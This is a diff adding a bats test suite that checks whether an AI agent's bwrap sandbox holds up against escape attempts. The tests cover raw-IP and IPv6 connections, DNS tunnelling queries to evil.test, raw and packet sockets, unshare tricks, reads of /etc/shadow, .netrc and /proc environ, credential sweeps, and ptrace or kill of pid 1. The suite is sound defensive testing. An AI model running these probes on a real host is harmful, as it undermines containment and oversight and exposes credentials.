@@ -1,0 +1,182 @@
+# Attacks from inside a bwrap sandbox on its walls: the network (E01 to E04, E11), the host (C01, E04).
+load ../lib/world.bash
+bats_require_minimum_version 1.5.0
+
+setup_file() {
+    world_start api.test || return 1
+    export WORLD SECRET UP_PORT UP_PLAIN_PORT HOST_MARKER="marker-of-the-host-$RANDOM$RANDOM"
+}
+
+teardown_file() { world_stop; }
+setup() {
+    world_clean_environment
+    cd "$WORLD/ws"
+}
+
+# `! command` never fails a test unless it is its last line.
+lacks() { # TEXT in what
+    if grep -qF -- "$1" <<< "$2"; then
+        echo "found: $1"
+        return 1
+    fi
+}
+
+@test "E01: without proxy variables, and by address, there is no route and no waiting" {
+    cat > attack.py <<'PY'
+import socket, time
+for address in ("1.1.1.1", "8.8.8.8", "10.0.0.1", "192.168.1.1", "169.254.169.254", "100.100.100.200"):
+    for port in (80, 443, 53, 22, 8443):
+        start = time.time()
+        try:
+            socket.create_connection((address, port), 5)
+            print("REACHED", address, port)
+        except OSError as error:
+            if time.time() - start > 1: print("SLOW", address, port, error)
+for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+    s = socket.socket(socket.AF_INET6, kind)
+    try:
+        s.connect(("2606:4700:4700::1111", 443)); print("REACHED v6")
+    except OSError: pass
+print("done")
+PY
+    run --separate-stderr inside env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u all_proxy \
+        python3 attack.py
+    [ "$status" -eq 0 ]
+    [ "$output" = done ]
+    run ! inside curl -sS --max-time 5 --noproxy '*' https://1.1.1.1/
+}
+
+@test "E02: a raw socket by name is captured, and policy applies" {
+    run inside python3 -c '
+import socket
+s = socket.create_connection(("plain.test", 80))
+s.sendall(b"GET / HTTP/1.1\r\nHost: forbidden.test\r\nConnection: close\r\n\r\n")
+print(s.makefile("rb").read().decode("latin1"))'
+    [ "$status" -eq 0 ]
+    grep -q '^HTTP/1.1 421' <<< "$output"
+    run inside python3 -c '
+import socket
+s = socket.create_connection(("forbidden.test", 80))
+s.sendall(b"GET / HTTP/1.1\r\nHost: forbidden.test\r\nConnection: close\r\n\r\n")
+print(s.makefile("rb").read().decode("latin1"))'
+    grep -q '^HTTP/1.1 403' <<< "$output"
+    grep -q 'no forbidden host' <<< "$output"
+}
+
+@test "E03: no query leaves: any name and type is answered inside, another resolver is out of reach" {
+    cat > dns.py <<'PY'
+import socket, struct, os
+def ask(server, name, kind):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+    q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
+    s.sendto(q, (server, 53)); return s.recv(4096)
+for kind in (16, 28, 15, 5, 12, 33, 65, 255, 257, 10):
+    a = ask("127.0.0.1", b"aGVsbG8gd29ybGQgdGhpcyBpcyBhIHR1bm5lbA.evil.test", kind)
+    assert a[3] & 15 in (0, 4) and struct.unpack(">H", a[6:8])[0] == 0, (kind, a)
+for i in range(2000):
+    a = ask("127.0.0.1", b"%d.evil.test" % i, 1)
+    assert a[-4] == 127 and 64 <= a[-3] < 128, a
+for server in ("8.8.8.8", "1.1.1.1"):
+    try: ask(server, b"evil.test", 1); print("REACHED")
+    except OSError: pass
+for junk in (b"", b"\0", b"\xff" * 12, os.urandom(300), b"\0" * 512, b"\xc0\x0c" * 100):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(junk, ("127.0.0.1", 53))
+assert ask("127.0.0.1", b"still.there", 1)[-4] == 127
+print("done")
+PY
+    run --separate-stderr inside python3 dns.py
+    echo "$stderr"
+    [ "$status" -eq 0 ]
+    [ "$output" = done ]
+}
+
+@test "E04: ICMP, raw and packet sockets, QUIC, and families that know no network namespace" {
+    cat > families.py <<'PY'
+import socket
+for family, kind, protocol in ((2, 3, 1), (10, 3, 58), (17, 3, 768), (17, 2, 768), (40, 1, 0), (38, 5, 0), (31, 3, 1), (29, 3, 1), (21, 5, 0), (44, 3, 0)):
+    try: socket.socket(family, kind, protocol); print("OPENED", family, kind)
+    except OSError: pass
+try:
+    s = socket.socket(2, 2, 1); s.connect(("1.1.1.1", 0)); s.send(b"\x08\0\0\0\0\0\0\0"); print("PING")
+except OSError: pass
+try:
+    s = socket.socket(2, 2); s.sendto(b"x", ("1.1.1.1", 443)); print("QUIC")
+except OSError: pass
+print("done")
+PY
+    run --separate-stderr inside python3 families.py
+    [ "$status" -eq 0 ]
+    [ "$output" = done ]
+}
+
+@test "E04: a namespace of one's own leads nowhere" {
+    run --separate-stderr inside sh -c 'unshare -rn sh -c "ip link set lo up; curl -sS --max-time 3 https://api.test/" 2>&1; true'
+    lacks '"login"' "$output"
+    run --separate-stderr inside sh -c 'unshare -rm mount -t tmpfs x /etc/aileron 2>/dev/null; head -c 27 /etc/aileron/ca.pem'
+    [ "$output" = "-----BEGIN CERTIFICATE-----" ]
+}
+
+@test "E11: the supervisor refuses to start an agent outside of a sealed sandbox" {
+    run -125 aileron-proxy run -- touch "$WORLD/ws/escaped"
+    [ ! -e "$WORLD/ws/escaped" ]
+}
+
+@test "C01: the host's environment, home and vault are not there" {
+    export SOME_HOST_SECRET=$HOST_MARKER
+    mkdir -p "$WORLD/user"
+    echo "$HOST_MARKER" > "$WORLD/user/.netrc"
+    HOME=$WORLD/user run inside sh -c "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat '$WORLD/user/.netrc' ~/.netrc /root/.* 2>&1;
+        ls -la '$AILERON_HOME' /root /home /var/lib /srv /mnt 2>&1"
+    lacks "$HOST_MARKER" "$output"
+    lacks vault.json "$output"
+    lacks "$SECRET" "$output"
+}
+
+@test "C01: a sweep of everything that can be read finds no credential" {
+    inside curl -sS https://api.test/user > /dev/null
+    run --separate-stderr inside sh -c "grep -rlF '$SECRET' / --exclude-dir=usr --exclude-dir=proc --exclude-dir=lib 2>/dev/null;
+        grep -alF '$SECRET' /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/[0-9]*/maps 2>/dev/null; true"
+    # The command line of the sweep itself holds the words that it looks for.
+    [ -z "$(grep -v '^/proc/[0-9]*/cmdline$' <<< "$output")" ]
+    # And it is a sweep that finds things: the launch token is in the environment and in its file.
+    run --separate-stderr inside sh -c 'grep -rlF "$AILERON_TOKEN" /run /etc /proc/self/environ 2>/dev/null; true'
+    grep -qx /run/aileron/token <<< "$output"
+    grep -qx /proc/self/environ <<< "$output"
+}
+
+@test "C01: shadow, keys and what others may not read are not shown, whoever launches" {
+    run inside sh -c 'cat /etc/shadow /etc/gshadow /etc/sudoers /.etc/shadow /.etc/ssh/* /.etc/ssl/private/* 2>/dev/null | wc -c
+        find /etc/ /.etc -type f ! -perm -004 -size +0 2>/dev/null'
+    [ "$(tail -n +2 <<< "$output")" = 0 ]
+}
+
+@test "the kernel's settings, keyrings and the supervisor are out of reach" {
+    cat > kernel.py <<'PY'
+import ctypes, fcntl, os, glob
+for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/1/mem"):
+    try: open(path, "r+b", buffering=0).write(b""); print("OPENED", path)
+    except OSError: pass
+for path in ("/proc/1/environ", "/proc/1/maps", "/proc/kcore"):
+    try:
+        if open(path, "rb").read(1): print("READ", path)
+    except OSError: pass
+try: fcntl.ioctl(0, 0x5412, b"x"); print("TIOCSTI")
+except OSError: pass
+libc = ctypes.CDLL(None, use_errno=True)
+if os.uname().machine == "x86_64":
+    for number in (250, 248, 249, 321, 298, 425, 101):
+        args = (16, 1, 0, 0) if number == 101 else (0, 0, 0, 0) # 101: ptrace, attach to pid 1
+        if libc.syscall(number, *args) != -1: print("CALLED", number)
+status = open("/proc/self/status").read()
+for line in ("CapPrm:\t0000000000000000", "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"):
+    if line not in status: print("MISSING", line)
+for signal in (9, 19): os.kill(1, signal)
+for path in ("/opt/aileron/bin/aileron", "/run/aileron/token", "/etc/aileron/ca.pem", "/usr/bin/env", "/etc/resolv.conf"):
+    try: open(path, "ab"); print("WRITABLE", path)
+    except OSError: pass
+print("done")
+PY
+    run --separate-stderr inside python3 kernel.py
+    [ "$status" -eq 0 ]
+    [ "$output" = done ]
+}
